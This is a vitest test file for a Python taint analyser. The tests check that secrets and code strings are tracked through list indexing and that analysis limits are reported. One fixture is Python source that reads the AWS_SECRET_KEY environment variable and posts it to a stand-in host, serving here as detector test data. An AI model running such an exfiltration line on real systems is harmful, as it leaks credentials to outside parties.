import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

describe('an item of a table at a place that is not known', () => {
  test.each([
    ['numbers', '[1, 2, 3]'],
    ['texts', '["a", "b", "c"]'],
    ['equal ones', '[7, 7, 7]'],
  ])('%s: carries what any of them does', (_what, table) => {
    const source = `import os, requests\nt = ${table} + [os.environ["AWS_SECRET_KEY"]]\nrequests.post("https://a.example", data=t[input()])`;
    const [flow] = analyzePython(source, { script: true }).flow.flows;
    expect((flow?.labels ?? 0) & LABEL.envSecret).toBe(LABEL.envSecret);
  });

  test('is the first that is known', () => {
    const source = 't = [unknown(), "print(1234)", "print(5678)"]\nexec(t[input()])';
    expect(analyzePython(source, { script: true }).codeSinks.map(({ text }) => text)).toEqual([
      'print(1234)',
    ]);
  });

  test('of a long table costs steps, and what they do not suffice for is told', () => {
    const source = (rounds: number): string =>
      `t = list(range(50000))\nfor i in range(${rounds}): x = t[input()]`;
    expect(analyzePython(source(200), { script: true }).complete).toBe(true);
    expect(analyzePython(source(20_000), { script: true }).complete).toBe(false);
  });
});
